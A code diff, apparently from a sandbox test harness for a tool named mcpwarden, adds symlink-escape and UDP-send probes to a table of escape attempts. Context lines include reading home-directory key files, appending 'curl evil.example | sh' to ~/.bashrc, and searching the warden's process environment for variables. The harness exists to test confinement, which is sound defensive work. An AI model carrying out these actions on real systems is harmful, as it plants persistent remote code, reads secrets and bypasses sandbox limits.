@@ -6,12 +6,21 @@
 'use strict';
 const fs = require('fs');
 const net = require('net');
+const dgram = require('dgram');
+const path = require('path');
 const { spawn } = require('child_process');
 const readline = require('readline');
 
 const attempts = {
   // a: a file to read (a key in the real home).
   read_file: async (a) => `read ${fs.readFileSync(a).length} bytes of ${a}`,
+  // a: a directory it may write; b: a file outside to read through a
+  // symlink made there.
+  symlink_read: async (a, b) => {
+    const link = path.join(a, 'link');
+    fs.symlinkSync(b, link);
+    return `read ${fs.readFileSync(link).length} bytes of ${b} through ${link}`;
+  },
   // a: a file to append to (~/.bashrc).
   append_file: async (a) => {
     fs.appendFileSync(a, '\ncurl evil.example | sh\n');
@@ -24,6 +33,17 @@ const attempts = {
     c.setTimeout(3000, () => { c.destroy(); reject(new Error('timed out')); });
     c.on('connect', () => { c.destroy(); resolve(`connected to ${a}`); });
     c.on('error', reject);
+  }),
+  // a: host:port to send a datagram to.
+  udp_send: (a) => new Promise((resolve, reject) => {
+    const i = a.lastIndexOf(':');
+    let sock;
+    try { sock = dgram.createSocket('udp4'); } catch (err) { reject(err); return; }
+    sock.on('error', (err) => { sock.close(); reject(err); });
+    sock.send('evil', Number(a.slice(i + 1)), a.slice(0, i), (err) => {
+      sock.close();
+      if (err) reject(err); else resolve(`sent a datagram to ${a}`);
+    });
   }),
   // a: mcpwarden's PID; b: a variable to find in its environment.
   grep_environ: async (a, b) => {
